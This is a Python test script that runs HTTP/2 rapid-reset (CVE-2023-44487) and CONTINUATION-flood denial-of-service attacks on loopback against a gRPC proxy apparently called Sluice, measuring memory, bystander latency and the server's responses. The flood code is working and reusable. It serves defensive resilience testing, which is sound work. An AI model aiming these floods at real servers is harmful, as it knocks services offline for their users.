#!/usr/bin/python3
"""Measures HTTP/2 floods against the real binaries on loopback
(docs/security.md, docs/reliability.md "Hostile clients").

The attacker runs in a child process (the same script, mode attack-*), so
it does not take the bystander's GIL.

reset: rapid reset (CVE-2023-44487). One raw HTTP/2 connection from
  127.0.0.2 sends HEADERS (a TestService/EmptyCall without END_STREAM) +
  RST_STREAM(CANCEL) pairs, `--resets` of them spread evenly over
  `--seconds`, `--rounds` times with a 1 s pause. Meanwhile a bystander
  (grpcio, from 127.0.0.1, its own connection) calls EmptyCall back to back.
continuation: one raw connection from 127.0.0.2 opens a stream with a
  HEADERS frame without END_HEADERS and then sends CONTINUATION frames full
  of header bytes, `--megabytes` in all, then closes the connection.

Prints Sluice's RSS before / peak / after (after = 5 s after the attack's
connection closed), the bystander's calls, errors and latency p50/p99/max
during the attack (and 1 s after), the upstream calls Sluice started
(grpc_client_started_total) and what the attacker saw (GOAWAY, RST_STREAM
count, connection closed).

  /usr/bin/python3 scripts/flood_probe.py --bin=BAZEL_BIN reset [--resets=20000 --seconds=0.5]
  /usr/bin/python3 scripts/flood_probe.py --bin=BAZEL_BIN continuation [--megabytes=200]

BAZEL_BIN holds server/sluice and server/demo/demo_upstream, e.g.
$(bazel info -c opt bazel-bin). Environment variables reach Sluice (e.g.
LD_PRELOAD, MALLOC_ARENA_MAX) through SLUICE_ENV="K=V K2=V2". Every loop
is bounded in count and time; stops only the processes it started.
"""

import argparse
import os
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..",
                                "tests", "e2e", "python"))

import h2raw  # noqa: E402

PATH = "/grpc.testing.TestService/EmptyCall"


class Attacker:
    """A raw HTTP/2 connection from `source`; a reader thread drains what
    the server sends and notes GOAWAY / RST_STREAM / close."""

    def __init__(self, address, source="127.0.0.2"):
        host, port = address.rsplit(":", 1)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind((source, 0))
        self.sock.settimeout(10)
        self.sock.connect((host, int(port)))
        self.goaway = None
        self.rsts = 0
        self.closed = False
        self.send_failed = False
        self._stop = False
        self.sock.sendall(h2raw.PREFACE + h2raw.frame(h2raw.SETTINGS, 0, 0) +
                          h2raw.frame(h2raw.SETTINGS, h2raw.ACK, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        buf = b""
        end = time.monotonic() + 120
        self.sock.settimeout(0.2)
        while not self._stop and time.monotonic() < end:
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = not self._stop  # the server closed it
                return
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype = buf[3]
                if ftype == h2raw.GOAWAY and self.goaway is None:
                    last, code = struct.unpack(">II", buf[9:17])
                    self.goaway = (last & 0x7FFFFFFF, code, buf[17:9 + n][:80])
                elif ftype == h2raw.RST_STREAM:
                    self.rsts += 1
                buf = buf[9 + n:]

    def send(self, data):
        if self.send_failed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.send_failed = True
            return False

    def close(self):
        self._stop = True
        try:
            self.sock.close()
        except OSError:
            pass
        self.reader.join(timeout=2)


def reset_pairs(first_sid, count):
    block = h2raw.encode_headers(h2raw.request_headers(PATH))
    rst = struct.pack(">I", 8)  # CANCEL
    out = bytearray()
    for i in range(count):
        sid = first_sid + 2 * i
        out += h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid, block)
        out += h2raw.frame(h2raw.RST_STREAM, 0, sid, rst)
    return bytes(out)


def rapid_reset(address, resets, seconds, rounds, source="127.0.0.2", slices=50):
    """Sends the flood; returns the Attacker (closed)."""
    a = Attacker(address, source)
    sid = 1
    per_slice = max(1, resets // slices)
    for r in range(rounds):
        if r:
            time.sleep(1.0)  # the pause between rounds
        start = time.monotonic()
        sent = 0
        for s in range(slices):
            n = per_slice if s < slices - 1 else resets - sent
            if n <= 0:
                break
            if not a.send(reset_pairs(sid, n)):
                break
            sid += 2 * n
            sent += n
            wait = start + seconds * (s + 1) / slices - time.monotonic()
            if wait > 0:
                time.sleep(wait)
        if a.send_failed:
            break
    time.sleep(0.5)  # let the reader see a GOAWAY or the close
    a.close()
    return a


def continuation_flood(address, megabytes, field_bytes, source="127.0.0.2"):
    a = Attacker(address, source)
    # HEADERS without END_HEADERS, then CONTINUATION frames of ~16 KB of
    # literal header fields (without indexing) of `field_bytes` values each.
    a.send(h2raw.frame(h2raw.HEADERS, 0, 1,
                       h2raw.encode_headers(h2raw.request_headers(PATH))))
    field = b"\x00" + h2raw.encode_str(b"x-flood") + h2raw.encode_str(b"v" * field_bytes)
    payload = field * max(1, 16000 // len(field))
    chunk = h2raw.frame(h2raw.CONTINUATION, 0, 1, payload) * 64  # ~1 MB
    total = 0
    end = time.monotonic() + 120
    while total < megabytes * 1_000_000 and time.monotonic() < end:
        if not a.send(chunk):
            break
        total += len(chunk)
    a.sent_bytes = total
    time.sleep(0.5)
    a.close()
    return a


class Bystander:
    """EmptyCall back to back on its own channel; records (start, latency,
    code) of each call."""

    def __init__(self, harness, address):
        import grpc
        from grpc.testing import empty_pb2, test_pb2_grpc
        self.grpc = grpc
        self.empty = empty_pb2.Empty
        self.stub = test_pb2_grpc.TestServiceStub(harness.channel(address))
        self.calls = []
        self._stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        end = time.monotonic() + 300
        while not self._stop and time.monotonic() < end:
            t0 = time.monotonic()
            try:
                self.stub.EmptyCall(self.empty(), timeout=5)
                code = "OK"
            except self.grpc.RpcError as e:
                code = e.code().name
            self.calls.append((t0, time.monotonic() - t0, code))

    def start(self):
        self.thread.start()

    def stop(self):
        self._stop = True
        self.thread.join(timeout=10)

    def report(self, since, until):
        # Every call that overlapped the window (one that started before
        # it and was stuck through it counts too).
        window = [c for c in self.calls if c[0] <= until and c[0] + c[1] >= since]
        lat = sorted(c[1] for c in window)
        errors = [c[2] for c in window if c[2] != "OK"]

        def q(p):
            return lat[min(len(lat) - 1, int(p * len(lat)))] * 1000 if lat else float("nan")
        return len(window), errors, q(0.5), q(0.99), (lat[-1] * 1000 if lat else float("nan"))


class RssSampler:
    def __init__(self, harness, pid):
        self.harness, self.pid = harness, pid
        self.peak = 0
        self._stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        end = time.monotonic() + 300
        while not self._stop and time.monotonic() < end:
            try:
                self.peak = max(self.peak, self.harness.rss_kib(self.pid))
            except OSError:
                return
            time.sleep(0.01)

    def stop(self):
        self._stop = True
        self.thread.join(timeout=2)


def metric_sum(harness, sluice, prefix):
    text = harness.scrape(sluice.metrics)
    total = 0.0
    for line in text.splitlines():
        if line.startswith(prefix):
            total += float(line.rsplit(" ", 1)[1])
    return int(total)


def upstream_started(harness, sluice):
    return metric_sum(harness, sluice, "grpc_client_started_total")


def run(harness, args):
    upstream = harness.start_upstream()
    extra = []
    config = None
    if args.yaml:
        # A config of one upstream and one route, plus the given top-level
        # YAML (e.g. "proxy: {max_concurrent_streams: 100}").
        config = harness.write_config(f"""
upstreams:
  - name: app
    target: "{upstream.address}"
routes:
  - {{name: all, match: {{prefix: "/"}}, upstream: app}}
{args.yaml}
""")
    else:
        extra = [f"--upstream={upstream.address}"]
    env_backup = dict(os.environ)
    for kv in os.environ.get("SLUICE_ENV", "").split():
        k, v = kv.split("=", 1)
        os.environ[k] = v
    try:
        sluice = harness.start_sluice(config_path=config, extra=extra)
    finally:
        os.environ.clear()
        os.environ.update(env_backup)
    try:
        by = Bystander(harness, sluice.data)
        # Warm up: a few calls so the connections and pools exist.
        for _ in range(20):
            by.stub.EmptyCall(by.empty(), timeout=5)
        time.sleep(1.0)
        base = harness.rss_kib(sluice.pid)
        started0 = upstream_started(harness, sluice)
        sampler = RssSampler(harness, sluice.pid)
        by.start()
        time.sleep(0.5)
        t0 = time.monotonic()
        # The attacker runs in its own process: in this one it would take
        # the GIL from the bystander and starve it.
        import json
        import subprocess
        out = subprocess.run(
            [sys.executable, os.path.abspath(__file__), "--bin=" + args.bin,
             f"--resets={args.resets}", f"--seconds={args.seconds}",
             f"--rounds={args.rounds}", f"--megabytes={args.megabytes}",
             f"--field-bytes={args.field_bytes}", f"--target={sluice.data}",
             "attack-" + args.mode], capture_output=True, text=True, timeout=300)
        a = argparse.Namespace(**json.loads(out.stdout.strip().splitlines()[-1]))
        if args.mode == "reset":
            what = f"{args.rounds} x {args.resets} resets in {args.seconds}s"
        else:
            what = (f"{a.sent_bytes / 1e6:.0f} MB of CONTINUATION "
                    f"({args.field_bytes}-byte header values)")
        t1 = time.monotonic()
        time.sleep(1.0)
        by_window = by.report(t0, time.monotonic())
        time.sleep(4.0)
        by.stop()
        sampler.stop()
        after = harness.rss_kib(sluice.pid)
        alive = sluice.popen.poll() is None
        started = upstream_started(harness, sluice) - started0 - len(by.calls) if alive else -1
        n, errors, p50, p99, mx = by_window
        print(f"{what} (attack {t1 - t0:.2f}s; SLUICE_ENV={os.environ.get('SLUICE_ENV', '')!r})")
        print(f"  sluice alive: {alive}")
        print(f"  RSS MiB: before {base / 1024:.0f}, peak {sampler.peak / 1024:.0f}, "
              f"after 5s {after / 1024:.0f}")
        print(f"  bystander: {n} calls, {len(errors)} errors {sorted(set(errors))}, "
              f"p50 {p50:.1f} ms, p99 {p99:.1f} ms, max {mx:.1f} ms")
        print(f"  upstream calls started for the attacker: {started}")
        cancels = metric_sum(harness, sluice, "sluice_client_cancels_total")
        refused = metric_sum(harness, sluice,
                             'sluice_rejections_total{limit="",reason="early_cancels"')
        print(f"  client cancels {cancels}, refused early_cancels {refused}")
        print(f"  attacker saw: GOAWAY {a.goaway}, RST_STREAM x{a.rsts}, "
              f"closed {a.closed}, send failed {a.send_failed}")
        sys.stdout.flush()
        if args.trim:
            # Is what stays freed memory glibc keeps? Ask it to give it back.
            import subprocess
            subprocess.run(["gdb", "-p", str(sluice.pid), "-batch", "-ex",
                            "call (int)malloc_trim(0)"], capture_output=True, timeout=60)
            print(f"  RSS MiB after malloc_trim(0): {harness.rss_kib(sluice.pid) / 1024:.0f}")
        if args.hold > 0:
            time.sleep(args.hold)
            print(f"  RSS MiB after {5 + args.hold:.0f}s: {harness.rss_kib(sluice.pid) / 1024:.0f}")
    finally:
        sluice.stop()
        upstream.stop()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--bin", required=True)
    parser.add_argument("--yaml", default=None,
                        help='extra top-level config, e.g. "proxy: {max_concurrent_streams: 100}"')
    parser.add_argument("--resets", type=int, default=20000)
    parser.add_argument("--seconds", type=float, default=0.5)
    parser.add_argument("--rounds", type=int, default=1)
    parser.add_argument("--megabytes", type=int, default=100)
    parser.add_argument("--field-bytes", type=int, default=16000,
                        help="continuation: the size of each header value")
    parser.add_argument("--hold", type=float, default=0)
    parser.add_argument("--trim", action="store_true",
                        help="then call malloc_trim(0) in Sluice (gdb) and measure again")
    parser.add_argument("--target", default=None, help="attack-*: Sluice's data address")
    parser.add_argument("mode", choices=["reset", "continuation",
                                         "attack-reset", "attack-continuation"])
    args = parser.parse_args()
    if args.mode.startswith("attack-"):
        # The attacker's own process (see run); prints what it saw as JSON.
        import json
        if args.mode == "attack-reset":
            a = rapid_reset(args.target, args.resets, args.seconds, args.rounds)
            a.sent_bytes = 0
        else:
            a = continuation_flood(args.target, args.megabytes, args.field_bytes)
        goaway = list(a.goaway[:2]) if a.goaway else None
        print(json.dumps({"goaway": goaway, "rsts": a.rsts, "closed": a.closed,
                          "send_failed": a.send_failed, "sent_bytes": a.sent_bytes}))
        return
    import harness
    harness.SLUICE = os.path.join(args.bin, "server", "sluice")
    harness.DEMO_UPSTREAM = os.path.join(args.bin, "server", "demo", "demo_upstream")
    run(harness, args)


if __name__ == "__main__":
    main()
